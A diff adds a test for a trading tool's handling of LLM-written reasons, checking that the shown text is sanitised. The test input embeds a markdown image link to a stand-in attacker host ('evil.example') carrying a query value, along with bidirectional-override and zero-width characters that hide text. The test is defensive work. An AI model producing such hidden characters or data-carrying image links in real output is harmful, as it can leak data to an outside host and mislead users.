@@ -63,6 +63,18 @@ describe("what a model wants for a pair", () => {
     ).toEqual(["1h.close", "1h.rsi14", "4h.ema20"].map((condition) => [condition, true, true]));
   });
 
+  it("is told in words that hide nothing, whatever the model wrote", () => {
+    expect(decided({ thesis: "Buy\u202E\u200B <b>now</b>\n![x](https://evil.example/?k=1)" }).reason.text).toBe(
+      "Buy now ! x (",
+    );
+    expect(decided({ thesis: "\u200B" }).reason.text).toBe("the model gave no reason that can be shown");
+    const cited = decided({ evidence: [...CITED, { path: "x\u202E<i>", value: "\u202E" }] });
+    expect(cited.reason.text).toBe("it cites x , which it was not told");
+    expect(cited.evidence.at(-1)?.condition).toBe("x");
+    const answer = { fault: 'Unrecognized key: "\u202Ea"' };
+    expect(decideLlm(question(answer)).reason.text).toBe('Unrecognized key: "a"');
+  });
+
   it("is a short by the same rules turned over", () => {
     const short = { action: "open_short", stop_loss: CLOSE * 1.02, take_profit: CLOSE * 0.95 };
     expect(decided(short)).toMatchObject({ action: "open", side: "short" });
